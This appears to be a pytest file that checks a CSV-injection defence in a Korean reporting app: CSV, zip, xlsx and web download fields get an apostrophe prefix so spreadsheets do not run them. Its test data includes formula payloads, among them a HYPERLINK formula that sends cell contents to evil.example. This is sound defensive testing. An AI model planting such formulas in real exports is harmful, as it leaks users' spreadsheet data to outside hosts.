"""CSV downloads never carry a formula a spreadsheet would run (OWASP "CSV injection"):
one helper, ``reports.csv.safe_field``, neutralises every field of every CSV writer."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest

from seonggwa.reports.csv import BOM, field_value, report_csv_zip, safe_field, table_csv
from seonggwa.reports.model import CellKind, Column, Report, Row, Table, TableCell

HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"클릭")', True),
    ("+1+1", True),
    ("@SUM(1,1)", True),
    ("-2+3", True),
    ("-A1", True),
    ("- 항목", True),
    ("\t=1", True),
    ("\tabc", True),
    ("\r=1", True),
    ("=", True),
    ("+", True),
]
HARMLESS = ["-5", "-1.5", "1.5", "-", "0", "-1,234", "-12%", "지표 = 값", "가나다", "", "'인용"]


@pytest.mark.parametrize(("text", "neutralised"), HOSTILE)
def test_a_field_a_spreadsheet_would_evaluate_gets_one_apostrophe(text, neutralised):
    assert safe_field(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_the_lone_dash_and_plain_text_stay_as_they_are(text):
    assert safe_field(text) == text


@pytest.mark.parametrize(
    "text", [t for t, _ in HOSTILE] + HARMLESS + ["'=1", "''=1", "'-2+3", "'-5", "'"]
)
def test_reading_back_strips_exactly_the_apostrophe_that_was_added(text):
    assert field_value(safe_field(text)) == text


def test_a_field_that_already_starts_with_an_apostrophe_before_a_formula_keeps_it():
    assert safe_field("'=1") == "''=1"
    assert field_value("''=1") == "'=1"
    assert field_value("'가") == "'가"  # not added by safe_field: left alone


def _table(texts: list[str]) -> Table:
    cols = [Column("name", "=지표명"), Column("value", "값", CellKind.INT)]
    rows = [
        Row([TableCell(t, t), TableCell(Decimal(-5 - i), str(-5 - i), CellKind.INT)])
        for i, t in enumerate(texts)
    ]
    return Table("t", "표", "", cols, [], rows)


def _read(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM) :])))


def test_table_csv_neutralises_text_headers_and_keeps_negative_numbers():
    texts = [t for t, _ in HOSTILE] + ["-"]
    rows = _read(table_csv(_table(texts)))
    assert rows[0] == ["'=지표명", "값"]
    body = rows[1:]
    assert [r[0] for r in body] == ["'" + t for t, _ in HOSTILE] + ["-"]
    assert [r[1] for r in body] == [str(-5 - i) for i in range(len(texts))]
    # the round trip a reader of these files does
    assert [field_value(r[0]) for r in body] == texts


def test_every_file_of_the_csv_zip_is_neutralised():
    report = Report("plan", "제목", "부제", "기관", 2026, tables=[_table(["+1+1", "@SUM(1,1)"])])
    with zipfile.ZipFile(io.BytesIO(report_csv_zip(report))) as z:
        (name,) = z.namelist()
        rows = _read(z.read(name))
    assert [r[0] for r in rows[1:]] == ["'+1+1", "'@SUM(1,1)"]


def test_the_xlsx_report_writes_hostile_text_as_string_cells_never_formulas():
    from openpyxl import load_workbook

    from seonggwa.reports.xlsx import report_xlsx

    texts = [t for t, _ in HOSTILE]
    report = Report("plan", "=제목", "부제", "기관", 2026, tables=[_table(texts)])
    book = load_workbook(io.BytesIO(report_xlsx(report, charts=False)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no totals in this table
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in ("=제목", "+1+1", "@SUM(1,1)", "-2+3"):
        assert by_value[text].data_type == "s"


@pytest.mark.django_db
def test_the_csv_download_of_a_plan_neutralises_an_indicator_named_like_a_formula(
    sample, admin_client
):
    from django.urls import reverse

    from seonggwa.plans.models import Indicator, Plan

    plan = Plan.objects.filter(organisation=sample, kind="plan").order_by("-year").first()
    names = ['=HYPERLINK("http://evil.example","x")', "+1+1", "@SUM(1,1)", "-2+3"]
    indicators = list(Indicator.objects.filter(plan=plan).order_by("pk")[: len(names)])
    for ind, name in zip(indicators, names, strict=True):
        Indicator.objects.filter(pk=ind.pk).update(name=name)
    url = reverse("web:report-download", args=[plan.pk, "plan", "csv"])
    response = admin_client.get(url + "?table=plan_detail")
    assert response.status_code == 200
    fields = [f for row in _read(response.content) for f in row]
    for name in names:
        assert "'" + name in fields
        assert name not in fields
